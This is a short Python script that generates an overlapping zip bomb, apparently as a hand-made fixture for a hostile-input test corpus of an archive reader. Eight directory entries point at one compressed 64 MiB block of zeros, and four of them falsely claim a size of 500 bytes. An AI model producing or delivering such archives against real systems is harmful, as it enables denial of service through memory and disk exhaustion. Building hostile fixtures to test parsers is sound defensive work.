#!/usr/bin/env python3
# Writes overlap-bomb.zip for the hostile2 corpus (hand-made):
#   python3 tools/overlap_bomb.py CONTROL_DIR overlap-bomb.zip
# A correct hello.c from CONTROL_DIR, and eight central-directory entries
# that all point at one local file: 64 MiB of zeros deflated to ~64 KB (a
# non-recursive, "overlapping" zip bomb). Four entries state the true size
# (64 MiB each, 256 MiB in all); four claim 500 bytes (a reader that trusts
# the claim and not the stream would inflate 64 MiB for each).
import struct, sys, zlib

src, out = sys.argv[1], sys.argv[2]
body = bytearray()

def local(name, data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = c.compress(data) + c.flush()
    crc, off, n = zlib.crc32(data) & 0xffffffff, len(body), name.encode()
    body.extend(struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 8, 0, 0x21, crc,
                            len(comp), len(data), len(n), 0))
    body.extend(n + comp)
    return off, crc, len(comp), len(data)

entries = [('zoo/hello.c',) + local('zoo/hello.c', open(src + '/hello.c', 'rb').read())]
off, crc, csize, usize = local('zoo/kernel-notes-1.c', b'\0' * (64 << 20))
for i in range(1, 9):
    entries.append(('zoo/kernel-notes-%d.c' % i, off, crc, csize, usize if i <= 4 else 500))
cd = bytearray()
for name, off, crc, csize, usize in entries:
    n = name.encode()
    cd.extend(struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 8, 0, 0x21, crc,
                          csize, usize, len(n), 0, 0, 0, 0, 0o100644 << 16, off))
    cd.extend(n)
eocd = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(entries), len(entries), len(cd), len(body), 0)
open(out, 'wb').write(bytes(body) + bytes(cd) + eocd)
